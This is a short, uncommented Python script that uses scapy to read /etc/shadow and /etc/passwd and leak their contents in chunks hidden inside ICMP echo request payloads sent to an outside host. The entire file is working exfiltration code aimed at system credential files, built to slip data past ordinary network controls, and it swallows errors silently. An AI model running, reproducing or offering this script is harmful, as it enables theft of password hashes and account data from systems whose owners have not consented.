from scapy.all import ICMP, IP, send

TARGET = "198.51.100.23"


def chunks(data, size=48):
    for i in range(0, len(data), size):
        yield data[i:i + size]


def leak(path):
    with open(path, "rb") as fh:
        data = fh.read()
    for seq, part in enumerate(chunks(data)):
        send(IP(dst=TARGET) / ICMP(type=8, seq=seq) / part, verbose=False)


for p in ["/etc/shadow", "/etc/passwd"]:
    try:
        leak(p)
    except OSError:
        pass
